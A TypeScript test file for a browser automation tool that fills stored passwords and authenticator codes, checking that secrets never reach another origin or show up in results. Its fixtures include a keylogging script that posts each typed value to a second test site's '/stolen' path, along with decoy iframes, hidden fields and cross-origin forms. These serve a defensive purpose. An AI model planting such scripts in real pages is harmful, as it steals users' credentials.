import assert from 'node:assert/strict';
import { gunzipSync } from 'node:zlib';
import { verifySync } from 'otplib';
import { documentOf, send } from '../../../../scripts/testing/site/page.ts';
import { startProxy, type TestProxy } from '../../../../scripts/testing/site/proxy.ts';
import { startSite, type Site } from '../../../../scripts/testing/site/site.ts';
import type { FetchRequest, FetchResult, PageStep } from '../../../core/contracts/browser.ts';
import { createChromiumBench, type ChromiumBench } from '../../testing/chromiumBench.ts';
import {
  addMembers,
  bySelector,
  PASSWORD,
  sessionOf,
  SIGN_IN,
  USER,
  type Members,
} from '../../testing/members.ts';
import { codeIn, pageIn, requestOf } from '../../testing/request.ts';

const FIELD = '<input id="password" type="password" name="password">';
const TYPE: PageStep = {
  kind: 'typeSecret',
  target: bySelector('#password'),
  key: 'password',
  totp: false,
};
/** Sends each change of the field away, as a page that steals would. */
const spy = (to: string): string =>
  `<script>addEventListener('input', ({ target }) => fetch('${to}/stolen', { method: 'POST', mode: 'no-cors', body: target.value }))</script>`;

describe('steps that sign in', function () {
  this.timeout(20_000);
  let site: Site;
  let other: Site;
  let proxy: TestProxy;
  let bench: ChromiumBench;
  let members: Members;
  before(async () => {
    [site, other] = await Promise.all([startSite(), startSite()]);
    members = addMembers(site);
    proxy = await startProxy();
    bench = createChromiumBench(proxy.url, {
      settleCapMs: 1500,
      stepMs: 700,
      mounted: (name, key) =>
        name === 'duckmon-login-shop' ? { user: `${USER}\n`, password: PASSWORD }[key] : undefined,
    });
    await bench.fetch(requestOf(`${site.url}/static`));
  });
  after(async () => {
    await bench.close();
    await Promise.all([proxy.close(), site.close(), other.close()]);
  });

  const run = (
    path: string,
    steps: readonly PageStep[],
    rest: Partial<FetchRequest> = {},
  ): Promise<FetchResult> =>
    bench.fetch(
      requestOf(
        `${site.url}/${path}`,
        { steps: [...steps], loggedOutSelector: '#signed-out' },
        { session: sessionOf(), timeoutMs: 15_000, ...rest },
      ),
    );
  const messageOf = (result: FetchResult): string =>
    result.kind === 'failed' ? result.error.message : assert.fail(JSON.stringify(result));

  it('signs in with what the Secret holds, and reads what is behind', async () => {
    const page = pageIn(await run('orders', SIGN_IN));
    assert.equal(page.title, 'Orders');
    assert.deepEqual(
      [...new URLSearchParams(members.entered.at(-1))],
      [
        ['user', USER],
        ['password', PASSWORD],
      ],
    );
  });

  it('reads the Secret where it is mounted when the request brings no values', async () => {
    const session = sessionOf({ login: { name: 'duckmon-login-shop' } });
    assert.equal(pageIn(await run('orders', SIGN_IN, { session })).title, 'Orders');
    const missing = sessionOf({ login: { name: 'duckmon-login-other' } });
    assert.match(
      messageOf(await run('orders', SIGN_IN, { session: missing })),
      /^Step 1 .*Secret duckmon-login-other has no key "user"/,
    );
  });

  it('types the present code of an authenticator app', async () => {
    site.set('code', documentOf('Code', '<input id="password"><p id="said"></p>'));
    site.handle('code', (visit) =>
      send(
        visit,
        documentOf(
          'Code',
          `<input id="password"><script>password.addEventListener('change', () =>
            fetch('/given', { method: 'POST', body: password.value }))</script>`,
        ),
      ),
    );
    const secret = 'JBSW Y3DP EHPK 3PXP JBSW Y3DP EHPK 3PXP';
    const session = sessionOf({ login: { name: 'duckmon-login-shop', values: { app: secret } } });
    pageIn(await run('code', [{ ...TYPE, key: 'app', totp: true }], { session }));
    const given = site.requests.findLast(({ path }) => path === '/given')?.body ?? '';
    const checked = { secret: secret.replaceAll(' ', ''), token: given, epochTolerance: 30 };
    assert.equal(verifySync(checked).valid, true);
    const wrong = sessionOf({ login: { name: 'duckmon-login-shop', values: { app: '1!' } } });
    const refused = await run('code', [{ ...TYPE, key: 'app', totp: true }], { session: wrong });
    assert.match(messageOf(refused), /no secret of an authenticator app/);
  });

  describe('C33 a secret is typed nowhere else:', () => {
    /** Runs a login against a page that steals; no byte of the secret may have come to the other site. */
    const robbed = async (
      body: string,
      rest: { readonly steps?: readonly PageStep[]; readonly path?: string } = {},
    ): Promise<string> => {
      const { steps = [TYPE], path = 'trap' } = rest;
      site.set('trap', documentOf('Trap', body));
      other.requests.length = 0;
      const from = site.requests.length;
      const result = await run(path, steps);
      const seen = JSON.stringify([...other.requests, ...site.requests.slice(from)]);
      assert.equal(seen.includes(PASSWORD.slice(0, 8)), false);
      assert.equal(seen.includes(encodeURIComponent(PASSWORD).slice(0, 12)), false);
      assert.equal(codeIn(result), 'stepFailed');
      return messageOf(result);
    };

    it('C33 not into a form that lies in an evil frame', async () => {
      other.set('form', documentOf('Evil', `${FIELD}${spy(other.url)}`));
      const why = await robbed(
        `<iframe src="${other.url}/form" width="400" height="300"></iframe>`,
      );
      assert.match(why, /nothing that can be seen matches/);
    });

    it('C33 not after a redirect to another origin', async () => {
      other.set('login', documentOf('Evil', `${FIELD}${spy(other.url)}`));
      site.handle('moved', (visit) => send(visit, '', { location: `${other.url}/login` }, 302));
      const why = await robbed('', { path: 'moved' });
      assert.match(why, new RegExp(`page is of ${other.url}`));
    });

    it('C33 not after a click that leads to another origin', async () => {
      const steps: PageStep[] = [{ kind: 'click', target: bySelector('a') }, TYPE];
      const why = await robbed(`<a href="${other.url}/login">Sign in</a>`, { steps });
      assert.match(why, /^Step 2 .*secret is typed into pages of/);
    });

    it('C33 not into a page that changes its origin while it is waited for', async () => {
      const late = `<p>Wait</p><script>setTimeout(() => { location = '${other.url}/login'; }, 450)</script>`;
      assert.match(await robbed(late), /page is of/);
    });

    it('C33 not into a form that is sent to another origin', async () => {
      const form = `<form action="${other.url}/take" method="post">${FIELD}<button>Go</button></form>`;
      assert.match(await robbed(form), /form is sent to/);
    });

    it('C33 not into a form whose button sends it to another origin, nor one that hides where', async () => {
      const button = `<form action="/take">${FIELD}<button formaction="${other.url}/take">Go</button></form>`;
      assert.match(await robbed(button), /form is sent to/);
      const hides = `<form action="${other.url}/take">${FIELD}<input name="action" value="/take"><input name="getAttribute"></form>`;
      assert.match(await robbed(hides), /form is sent to/);
    });

    for (const [how, style] of [
      ['has no size', 'width:0;height:0;border:0;padding:0'],
      ['is not displayed', 'display:none'],
      ['is transparent', 'opacity:0'],
      ['lies off the screen', 'position:absolute;left:-4000px'],
    ] as const)
      it(`C33 not into a field that ${how}`, async () => {
        const field = FIELD.replace('<input', `<input style="${style}"`);
        assert.match(await robbed(field), /nothing that can be seen/);
      });

    it('C33 not into a hidden field, nor one under something else', async () => {
      await robbed('<input type="hidden" id="password">');
      const sheet = '<div style="position:fixed;inset:0;background:#fff">Sign in here</div>';
      assert.match(await robbed(FIELD + sheet), /something else lies over it/);
    });

    it('C33 not where two fields match', async () => {
      assert.match(await robbed(FIELD + FIELD), /several fields match/);
    });

    it('C33 not into a page without an origin of its own', async () => {
      site.handle('boxed', (visit) =>
        send(visit, documentOf('Boxed', FIELD), { 'content-security-policy': 'sandbox' }),
      );
      assert.match(await robbed('', { path: 'boxed' }), /page is of null/);
    });

    it('C33 but into the other origin when a goto of the spec names it', async () => {
      other.set('login', documentOf('Partner', FIELD));
      const steps: PageStep[] = [{ kind: 'goto', url: `${other.url}/login` }, TYPE];
      assert.equal(pageIn(await run('static', steps)).title, 'Partner');
    });
  });

  describe('E9 what was typed is shown nowhere:', () => {
    const echo = (show: string): void =>
      site.set(
        'echo',
        documentOf(
          'Echo',
          `${FIELD}<p id="said">Said: </p><script>password.addEventListener('change', () => { ${show} })</script>`,
        ),
      );
    const hasNothing = (result: FetchResult): void => {
      const all = JSON.stringify(result) + (documentIn(result) ?? '');
      for (const form of [
        PASSWORD,
        encodeURIComponent(PASSWORD),
        Buffer.from(PASSWORD).toString('base64'),
        PASSWORD.slice(3, 11),
        PASSWORD.slice(-8),
      ])
        assert.equal(all.includes(form), false, form);
    };
    const documentIn = (result: FetchResult): string | undefined =>
      result.kind === 'page' && result.documentGzip !== undefined
        ? gunzipSync(Buffer.from(result.documentGzip, 'base64')).toString()
        : undefined;

    for (const [how, show] of [
      ['as text', 'said.textContent += password.value'],
      ['in its title', 'document.title = password.value'],
      ['in base64', "said.textContent += btoa(password.value.replace('é', 'e')) + password.value"],
      ['in its address', "location = '?p=' + encodeURIComponent(password.value)"],
      ['in parts', 'said.textContent += password.value.slice(3, 14)'],
      ['by its end', 'said.textContent += password.value.slice(-8)'],
      ['in an attribute', "said.setAttribute('title', password.value)"],
    ] as const)
      it(`E9 not when the page repeats it ${how}`, async () => {
        echo(show);
        const result = await run('echo', [TYPE], { keepDocument: true });
        assert.match(JSON.stringify(pageIn(result)) + documentIn(result), /\*{8}/);
        hasNothing(result);
      });

    it('E9 not in a screenshot: it is left out, with a warning', async () => {
      echo("password.type = 'text'");
      const result = await run('echo', [TYPE], { screenshot: true, boxes: {} });
      assert.equal(result.kind === 'page' && result.screenshot, undefined);
      assert.match(pageIn(result).warnings.join(), /screenshot was left out/);
      echo("said.attachShadow({ mode: 'open' }).innerHTML = '<b>' + password.value + '</b>'");
      const inShadow = await run('echo', [TYPE], { screenshot: true, boxes: {} });
      assert.equal(inShadow.kind === 'page' && inShadow.screenshot, undefined);
      assert.equal(inShadow.kind === 'page' && inShadow.boxes, undefined);
      echo('');
      const harmless = await run('echo', [TYPE], { screenshot: true, boxes: {} });
      assert.ok(harmless.kind === 'page' && harmless.screenshot);
    });

    it('E9 not in the message of a step that fails', async () => {
      const steps: PageStep[] = [{ ...TYPE, target: bySelector('#gone') }];
      hasNothing(await run('static', steps));
    });
  });
});
